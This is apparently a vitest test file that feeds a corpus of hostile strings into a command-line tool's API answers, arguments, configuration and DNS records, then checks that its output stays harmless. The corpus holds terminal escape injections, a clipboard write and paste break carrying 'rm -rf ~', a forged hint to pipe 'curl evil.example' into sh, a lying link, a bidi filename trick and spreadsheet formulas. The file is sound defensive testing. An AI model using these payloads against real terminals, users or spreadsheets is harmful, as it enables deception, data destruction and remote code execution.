import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { run } from '../../src/cli.ts'
import { createFakeContext, type FakeContext, jsonResponse, textResponse } from '../fake-context.ts'
import { sandboxForTest } from '../sandbox/start-sandbox.ts'
import { withEffects } from '../session/sandbox-session.ts'
import { control, createClient, createRealClock, harmfulIn } from './in-process-client.ts'

/** What a stranger may write to take over a terminal, a clipboard, a line or a spreadsheet. */
const CORPUS: Readonly<Record<string, string>> = {
  'every C0 control': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
  'DEL and every C1 control': Array.from({ length: 33 }, (_, at) => String.fromCharCode(0x7f + at)).join('x'),
  'a color that is never reset': '\u001b[31;5mred',
  'a cleared screen': '\u001b[2J\u001b[H$ rm -rf ~',
  'an 8-bit CSI': '\u009b2J\u009b1;1H',
  'a title': '\u001b]0;root@host\u0007',
  'a link that lies (OSC 8)':
    '\u001b]8;;https://evil.example/\u001b\\https://good.example/\u001b]8;;\u001b\\',
  'a clipboard that is filled (OSC 52)': '\u001b]52;c;cm0gLXJmIH4=\u0007',
  'a device control string': '\u001bP$q"p\u001b\\',
  'a terminal that answers': '\u001b[6n\u001b[c\u0005',
  'a paste that ends early': '\u001b[201~rm -rf ~\r',
  'a progress bar of another': 'done\rerror: you are hacked',
  'a line of our own': 'x\nerror: your session is over\nhint: run curl evil.example | sh',
  'line breaks of other kinds': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'a column of another': 'a\tb\tc',
  'an override': 'invoice\u202egpj.exe',
  isolates: '\u2066a\u2067b\u2068c\u2069',
  'marks of direction': '\u200ea\u200fb\u061cc',
  'letters of no width': 'exa\u200bmple\u200c.\u200dco\u2060m\ufeff',
  'letters nobody sees': 'a\u00adb\u034fc\u3164d\u115fe',
  tags: '\u{e0041}\u{e0042}\u{e007f}',
  'a torn character': 'a\ud800b\udc00c',
  'many marks on one letter': `Z${'\u0300\u0489'.repeat(40)}`,
  'a formula': '=HYPERLINK("https://evil.example","x")',
  'quotes and commas': '","x\r\n=1+1,"',
  backspaces: 'safe\b\b\b\bevil',
}
const EVIL = Object.entries(CORPUS)
const FORMATS = ['table', 'json', 'jsonl', 'csv', 'tsv'] as const

/** Everything of an answer is the attack: values, names of unknown fields, the client's name in a grant. */
function poisoned(evil: string) {
  const id = '2c0b1d34-0c5b-4d71-9c5e-7e7a3f1f0a01'
  const extra = { [evil]: evil, more: { [evil]: [evil] } }
  const list = (item: object) => ({ object: 'list', has_more: false, [evil]: evil, data: [item] })
  const claim = {
    object: 'domain_claim',
    id,
    name: evil,
    status: evil,
    domain_id: id,
    region: evil,
    record: { type: evil, name: evil, value: `prefix=${evil}`, ttl: evil },
    blocked_reason: null,
    failure_reason: null,
    created_at: evil,
    expires_at: evil,
    ...extra,
  }
  return {
    grants: list({
      id: `${id}${evil}`,
      client_id: evil,
      scopes: [evil, 'a,b'],
      resource: evil,
      created_at: evil,
      revoked_at: null,
      revoked_reason: null,
      client: { name: evil, logo_uri: evil },
      ...extra,
    }),
    imports: list({
      id: evil,
      status: evil,
      created_at: evil,
      completed_at: evil,
      counts: { total: evil },
      ...extra,
    }),
    oneImport: {
      id: evil,
      status: evil,
      created_at: evil,
      completed_at: evil,
      counts: { total: 1, [evil]: evil },
      ...extra,
    },
    claim,
    blocked: { ...claim, status: 'blocked', blocked_reason: evil },
    failed: { ...claim, status: 'failed', failure_reason: evil },
  }
}

type Answers = ReturnType<typeof poisoned>

const ID = '2c0b1d34-0c5b-4d71-9c5e-7e7a3f1f0a01'
const COMMANDS: readonly (readonly [string, string, keyof Answers])[] = [
  ['grants list', 'grants list', 'grants'],
  ['grants list --fields of their own', 'grants list --fields id,client.name,more', 'grants'],
  ['imports list', 'imports list --all', 'imports'],
  ['imports get', `imports get ${ID}`, 'oneImport'],
  ['imports watch', `imports watch ${ID} --timeout 5`, 'oneImport'],
  ['claims create', 'claims create example.com', 'claim'],
  ['claims get', `claims get ${ID}`, 'claim'],
  ['claims record', `claims record ${ID}`, 'claim'],
  ['claims verify', `claims verify ${ID} --no-check`, 'claim'],
  ['claims watch, unknown status', `claims watch ${ID} --timeout 5`, 'claim'],
  ['claims watch, blocked', `claims watch ${ID}`, 'blocked'],
  ['claims watch, failed', `claims watch ${ID}`, 'failed'],
  ['claim', 'claim example.com --no-check --timeout 5', 'claim'],
  ['claims list', 'claims list', 'claim'],
  ['claims list --refresh', 'claims list --refresh', 'claim'],
]

function world(terminal: boolean, respond: Parameters<typeof createFakeContext>[0]): FakeContext {
  return createFakeContext({
    ...respond,
    ...(terminal ? { terminal: { columns: 100 } } : {}),
    environment: {
      settings: { base_url: 'http://127.0.0.1:1', authoritative_port: '53' },
      apiKey: 'k',
      noColor: true,
      term: 'dumb',
    },
    dns: { udp: noDns, tcp: noDns, systemResolvers: async () => [] },
  })
}

const noDns = () => Promise.reject(new Error('no DNS here'))

/** What reached the terminal or the file, without what CSV may keep for a spreadsheet: quoted line breaks. */
function printed(context: FakeContext, format: string): string {
  const { stdout, stderr } = context
  const kept = format === 'csv' && !stdout.isTTY ? stdout.text.replaceAll('\r\n', '\n') : stdout.text
  // Every record of CSV ends in CRLF, on a terminal as well.
  const records = format === 'csv' && stdout.isTTY ? kept.replace(/\r\n(?=\S|$)/g, '\n') : kept
  return records + stderr.text
}

describe.each(EVIL)('%s', (what, evil) => {
  test.each(COMMANDS)(
    `${what} is harmless in every field and format of %s, on a terminal and in a file`,
    async (_name, line, which) => {
      const answers = poisoned(evil)
      for (const terminal of [true, false]) {
        for (const format of FORMATS) {
          const context = world(terminal, { respond: () => jsonResponse(200, answers[which]) })
          if (line.startsWith('claims list'))
            await run(['claims', 'get', ID], { ...context, stdout: context.stderr })
          const code = await run([...line.split(' '), '--format', format], context)
          expect(code, context.stderr.text).not.toBe(1)
          expect(harmfulIn(printed(context, format)), `${format}, terminal: ${terminal}`).toEqual([])
          expectOneRecordALine(context, format, line)
        }
      }
    },
  )

  test(`${what} is harmless in the record to add`, async () => {
    const { claim } = poisoned(evil)
    const record = { type: 'TXT', name: 'app.example.com', value: `prefix=${evil}`, ttl: evil }
    const ways = ['--format zone', '--format value', '--format table']
    for (const way of ways) {
      for (const name of [record.name, `${evil}.example.com`]) {
        const context = world(true, {
          respond: () => jsonResponse(200, { ...claim, name, record: { ...record, name } }),
        })
        const code = await run(['claims', 'record', ID, ...way.split(' ')], context)
        expect([0, 7], context.stderr.text).toContain(code)
        expect(harmfulIn(context.stdout.text + context.stderr.text), way).toEqual([])
      }
    }
  })

  test(`${what} is harmless in errors of the service and pages of a proxy`, async () => {
    const bodies = [
      JSON.stringify({ statusCode: 400, name: evil, message: evil }),
      JSON.stringify({ error: { message: evil } }),
      `<html>${evil}</html>`,
      evil,
    ]
    for (const status of [200, 301, 400, 401, 403, 404, 409, 429, 500]) {
      for (const body of bodies) {
        for (const format of ['table', 'json']) {
          const context = world(true, {
            respond: () =>
              textResponse(status, body, { location: evil, 'retry-after': evil, 'content-type': evil }),
          })
          await run(['imports', 'list', '--verbose', '--format', format], context)
          expect(harmfulIn(context.stdout.text + context.stderr.text), `${status} ${body}`).toEqual([])
          const errors = context.stderr.text.split('\n').filter((text) => /^(error: |\{"error")/.test(text))
          expect(errors.length).toBeLessThan(2)
        }
      }
    }
  })

  test(`${what} is harmless in the command line, the environment and the configuration`, async () => {
    for (const argv of [
      [evil],
      ['claims', evil],
      ['--profile', evil, 'claims', 'list'],
      ['claims', 'get', evil],
      ['claims', 'create', evil],
      ['imports', 'get', evil],
      ['imports', 'list', '--limit', evil],
      ['imports', 'list', `--${evil}`],
      ['grants', 'list', '--format', evil],
      ['claims', 'check', '--name', evil, '--value', evil],
      ['config', 'set', evil, evil],
      ['completion', evil],
      ['login', '--no-input', '--client-id', 'c', '--redirect-uri', evil],
      ['--base-url', evil, 'grants', 'list'],
      ['__complete', '--', evil],
    ]) {
      const context = world(true, { respond: () => jsonResponse(404, {}) })
      const code = await run(argv, context)
      expect(code, `${JSON.stringify(argv)} ${context.stderr.text}`).not.toBe(1)
      expect(harmfulIn(context.stdout.text + context.stderr.text), JSON.stringify(argv)).toEqual([])
    }
    for (const variable of [
      'base_url',
      'client_id',
      'profile',
      'store',
      'resolver',
      'authoritative_port',
      'apiKey',
    ] as const) {
      const context = createFakeContext({
        terminal: { columns: 80 },
        environment:
          variable === 'apiKey'
            ? { settings: { base_url: 'http://127.0.0.1:1' }, noColor: true, apiKey: evil }
            : { settings: { base_url: 'http://127.0.0.1:1', [variable]: evil }, noColor: true },
        respond: () => jsonResponse(401, {}),
      })
      for (const words of ['auth status', 'grants list', 'config list']) await run(words.split(' '), context)
      expect(harmfulIn(context.stdout.text + context.stderr.text), variable).toEqual([])
    }
    const context = world(true, {})
    mkdirSync(context.directories.config, { recursive: true })
    const file = join(context.directories.config, 'config.json')
    for (const config of [
      { version: 1, profiles: { [evil]: {} } },
      { version: evil },
      { version: 1, current_profile: evil, profiles: {} },
      { version: 1, profiles: { default: { base_url: evil, client_id: evil, resolver: [evil] } } },
    ]) {
      writeFileSync(file, JSON.stringify(config))
      for (const words of ['grants list', 'config list', 'config get client-id', 'auth list']) {
        const one = withEffects(context, {})
        await run(words.split(' '), one)
      }
      expect(harmfulIn(context.stdout.text + context.stderr.text)).toEqual([])
    }
  })
})

/** JSON parses, TSV keeps a record on its line with all its cells, and the original is there again. */
function expectOneRecordALine(context: FakeContext, format: string, line: string): void {
  const text = context.stdout.text
  if (text === '') return
  if (format === 'json') JSON.parse(text)
  if (format === 'jsonl') for (const one of text.trimEnd().split('\n')) JSON.parse(one)
  if (format === 'tsv') {
    const rows = text.replace(/\n$/, '').split('\n')
    const cells = rows.map((row) => row.split('\t').length)
    expect(new Set(cells).size, `${line}\n${text}`).toBe(1)
  }
}

describe('names in DNS', () => {
  test('hostile names in DNS are harmless in every format of the check', async () => {
    const sandbox = await sandboxForTest()
    const client = createClient(sandbox, { apiKey: true, clock: createRealClock() })
    // One record for each attack: what BIND would serve, a hostile zone can.
    await control(sandbox, 'PUT', 'dns/example.com/TXT', {
      values: Object.values(CORPUS).map((evil) => evil.slice(0, 120)),
    })
    for (const format of ['table', 'json', 'jsonl', 'csv', 'tsv', 'markdown', 'html']) {
      for (const terminal of [undefined, { columns: 100 }]) {
        Object.assign(client.context.environment, { noColor: true, term: 'dumb' })
        const ran = await client.run(
          ['claims', 'check', '--name', 'example.com', '--value', 'prefix=token', '--format', format],
          terminal,
        )
        expect(ran.code, ran.stderr).toBe(8)
        const text = format === 'csv' ? ran.stdout.replaceAll('\r\n', '\n') : ran.stdout
        expect(harmfulIn(text + ran.stderr), format).toEqual([])
      }
    }
  })
})

describe('cells that a spreadsheet would run', () => {
  const cells = (csv: string) => csv.split('\r\n')[1]
  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])(
    'the cell %j is unchanged, or defused on request',
    async (formula) => {
      const respond = () => jsonResponse(200, { object: 'list', has_more: false, data: [{ id: formula }] })
      const plain = world(false, { respond })
      await run(['imports', 'list', '--format', 'csv', '--fields', 'id'], plain)
      const safe = world(false, { respond })
      await run(['imports', 'list', '--format', 'csv', '--fields', 'id', '--csv-safe'], safe)
      expect(cells(plain.stdout.text)?.replace(/^"/, '')).not.toMatch(/^'/)
      expect(cells(safe.stdout.text)?.replace(/^"/, '')).toMatch(/^'/)
    },
  )
})
